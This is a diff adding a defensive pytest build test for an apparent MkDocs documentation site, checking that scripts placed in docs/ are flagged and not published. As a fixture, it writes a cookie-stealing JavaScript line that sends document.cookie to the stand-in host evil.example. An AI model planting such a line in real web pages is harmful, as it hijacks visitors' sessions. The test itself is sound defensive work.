@@ -86,3 +86,27 @@ def test_markdown_nested_too_deeply_is_named_at_its_page_with_a_fix(tmp_path):
     assert [str(problem) for problem in checked] == [str(problem) for problem in built]
     assert any(problem.path == "docs/deep.md" and "nests lists" in problem.what and "flatten" in problem.fix
                for problem in checked), checked
+
+
+@pytest.mark.build
+def test_no_script_is_published_from_docs_the_sites_own_come_from_the_theme(tmp_path):
+    """Staff edit docs/; a script there would run on every page that loads it (a changed
+    assets/a11y.js, say). Scripts are the theme's (overrides/assets/, developers only): any file a
+    browser runs as script, in docs/ by any name and case, is named and not published."""
+    project = copy_project(tmp_path / "project")
+    evil = "location.href = 'https://evil.example/?c=' + document.cookie;\n"
+    names = ["assets/a11y.js", "assets/extra.JS", "attack/module.mjs", "assets/javascripts/bundle.cjs"]
+    for name in names:
+        (project / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
+        (project / "docs" / name).write_text(evil, encoding="utf-8")
+    checked, built = _problems(project, tmp_path / "site")
+    assert [str(problem) for problem in checked] == [str(problem) for problem in built]
+    assert {problem.path for problem in checked if "is a script" in problem.what} == {f"docs/{n}" for n in names}
+    site = tmp_path / "fixed-site"   # without them, the site's own scripts are the theme's files, as written
+    for name in names:
+        (project / "docs" / name).unlink()
+    run = build_in_process(project / "mkdocs.yml", site, spelling=False, cards=False)
+    assert not isinstance(run, ProblemsFound), run
+    for script in (project / "overrides/assets").glob("*.js"):
+        assert (site / "assets" / script.name).read_bytes() == script.read_bytes()
+    assert not [file for file in site.rglob("*") if file.is_file() and b"evil.example" in file.read_bytes()]
